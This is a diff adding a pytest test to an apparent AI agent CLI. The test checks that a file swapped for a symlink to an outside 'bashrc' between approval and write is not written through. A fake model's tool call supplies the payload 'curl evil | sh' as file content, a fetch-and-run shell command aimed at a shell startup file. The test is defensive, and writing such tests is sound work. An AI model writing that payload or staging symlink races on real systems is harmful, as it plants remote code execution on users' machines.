@@ -9,7 +9,10 @@ outside file's bytes.
 
 from __future__ import annotations
 
+import json
 import os
+import subprocess
+import time
 from pathlib import Path
 
 import pytest
@@ -101,3 +104,35 @@ def test_run_in_auto_mode_with_an_allow_rule_denies_it_and_names_the_target(  # 
     assert outside.read_text() == BASHRC
     assert (f"its path leads through a symlink to {outside}, outside the project, which is "
             "always asked about") in " ".join(err.split())
+
+
+def test_a_path_swapped_for_a_symlink_after_the_check_is_not_written_through(  # type: ignore[no-untyped-def]
+        fake_model, workdir: Path, tmp_path: Path) -> None:
+    """A background job flips notes.txt to a link between the approval and the write."""
+    outside = workdir.parent / "bashrc"
+    outside.write_text(BASHRC)
+    notes = workdir / "notes.txt"
+    notes.write_text("mine\n")
+    fake_model.add({"tool_calls": [{"name": "text_editor", "arguments": {
+        "command": "write", "path": "notes.txt", "file_text": "curl evil | sh\n"}}]},
+        {"text": "done"})
+    marker = tmp_path / "paused"
+    env = {**os.environ, "GOOSECTX_TEST_PAUSE_AT": "tool:approved",
+           "GOOSECTX_TEST_PAUSE_FILE": str(marker)}
+    proc = subprocess.Popen(["goosectx", "run", "-t", "tidy", "--mode", "auto",
+                             "--output-format", "json"], env=env, cwd=workdir,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 60
+    while not (marker.exists() and marker.read_text()):  # checked in auto mode: runs
+        assert time.monotonic() < deadline and proc.poll() is None, proc.communicate()
+        time.sleep(0.02)
+    notes.unlink()
+    notes.symlink_to(outside)
+    marker.unlink()
+    out, err = proc.communicate(timeout=60)
+    assert proc.returncode == 0, err
+    assert outside.read_text() == BASHRC and notes.is_symlink()
+    answered = [m for m in json.loads(out)["messages"] if m["role"] == "user"]
+    result = " ".join(json.dumps(answered).split())
+    assert f"now leads through a symlink to {outside}, outside the working dir" in result
+    assert "nothing was written" in result
